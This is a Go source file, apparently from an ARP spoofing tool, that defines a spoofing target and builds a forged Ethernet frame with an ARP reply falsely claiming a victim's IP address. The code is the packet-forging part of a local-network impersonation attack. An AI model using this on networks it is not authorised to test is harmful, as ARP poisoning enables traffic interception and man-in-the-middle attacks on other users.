package malcolm

import (
	"errors"
	"fmt"
	"net"

	"github.com/mdlayher/ethernet"
)

// ErrInvalidInterface is returned when a Target names an empty or
// overlong network interface.
var ErrInvalidInterface = errors.New("invalid interface name")

// A Target describes a single spoofing run.  A Target should not be
// modified once listening has started.
type Target struct {
	// VictimIP is the IPv4 address being impersonated.
	VictimIP net.IP

	// VictimMAC is advertised to the peer as the owner of VictimIP.
	VictimMAC net.HardwareAddr

	// PeerIP and PeerMAC identify the host which receives the forged
	// reply.
	PeerIP  net.IP
	PeerMAC net.HardwareAddr

	// Interface is the name of the network interface used for both
	// listening and injection.
	Interface string
}

// Validate checks that t holds IPv4 addresses, 6 byte MAC addresses, and
// an interface name that fits the kernel's interface name buffer.
func (t *Target) Validate() error {
	if t.VictimIP.To4() == nil {
		return fmt.Errorf("victim %q: %w", t.VictimIP, ErrInvalidIP)
	}
	if t.PeerIP.To4() == nil {
		return fmt.Errorf("peer %q: %w", t.PeerIP, ErrInvalidIP)
	}
	if len(t.VictimMAC) != macLen {
		return fmt.Errorf("victim %q: %w", t.VictimMAC, ErrInvalidMAC)
	}
	if len(t.PeerMAC) != macLen {
		return fmt.Errorf("peer %q: %w", t.PeerMAC, ErrInvalidMAC)
	}
	if t.Interface == "" || len(t.Interface) >= maxIfaceNameLen {
		return fmt.Errorf("%q: %w", t.Interface, ErrInvalidInterface)
	}

	return nil
}

// Reply builds the forged ARP reply for t: an Ethernet frame from the
// victim's MAC to the peer's MAC, carrying an ARP reply which claims that
// VictimIP is at VictimMAC.
func (t *Target) Reply() (*ethernet.Frame, *Packet, error) {
	p, err := NewPacket(OperationReply, t.VictimMAC, t.VictimIP, t.PeerMAC, t.PeerIP)
	if err != nil {
		return nil, nil, err
	}

	f := &ethernet.Frame{
		Destination: t.PeerMAC,
		Source:      t.VictimMAC,
		EtherType:   ethernet.EtherTypeARP,
	}

	return f, p, nil
}
